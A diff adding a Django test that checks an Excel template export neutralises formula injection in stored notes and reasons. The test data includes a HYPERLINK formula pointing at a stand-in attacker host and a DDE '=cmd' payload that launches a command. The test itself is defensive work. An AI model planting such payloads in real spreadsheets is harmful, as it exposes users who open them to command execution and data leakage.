@@ -697,3 +697,38 @@ def test_it_refuses_unknown_years_and_strategies(client, bob, fisheries):
     client.force_login(bob)
     assert client.get(url(2030, fisheries)).status_code == 404
     assert client.get(reverse("excel_import", args=["nope", 2022, fisheries.pk])).status_code == 404
+
+
+# --- formulas in stored text (issue 14) ----------------------------------------------------------
+
+
+def test_a_stored_formula_like_note_comes_back_as_text_and_the_unchanged_template_uploads(
+    client, alice, assigned, fisheries
+):
+    """A note "=HYPERLINK(…)" and a 測定不能 reason "=cmd|…" must not become formula cells in the
+    downloaded template, and the template uploaded unchanged is accepted with nothing to change."""
+    note, reason = '=HYPERLINK("http://evil.example/?x","click")', "=cmd|' /C calc'!A0"
+    Actual.objects.create(indicator=assigned["1-ア-1-1"], fiscal_year=2022, value=25000, note=note)
+    Actual.objects.create(
+        indicator=assigned["1-ア-1-2"],
+        fiscal_year=2022,
+        not_measurable=True,
+        not_measurable_reason=reason,
+    )
+    client.force_login(alice)
+    r = client.get(reverse("excel_template", args=["nemuro-2", 2022, fisheries.pk]))
+    with zipfile.ZipFile(BytesIO(r.content)) as zf:
+        sheets = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
+    assert b"<f>" not in sheets and b"<f " not in sheets  # no formula cell at all
+    ws = load_workbook(BytesIO(r.content))[layout.DATA_SHEET]
+    col = columns(ws)
+    assert ws.cell(row_of(ws, "1-ア-1-1"), col[NOTE]).value == "'" + note
+    assert ws.cell(row_of(ws, "1-ア-1-2"), col[REASON]).value == "'" + reason
+    before = snapshot()
+    preview = upload(client, 2022, fisheries, r.content)
+    assert preview.status_code == 200
+    assert "数式は使えません" not in body(preview)
+    token = re.search(r'name="token" value="([^"]+)"', body(preview)).group(1)
+    assert commit(client, 2022, fisheries, token).status_code == 302
+    assert snapshot() == before  # nothing changed: the notes came back exactly as stored
+    assert Actual.objects.get(indicator=assigned["1-ア-1-1"], fiscal_year=2022).note == note
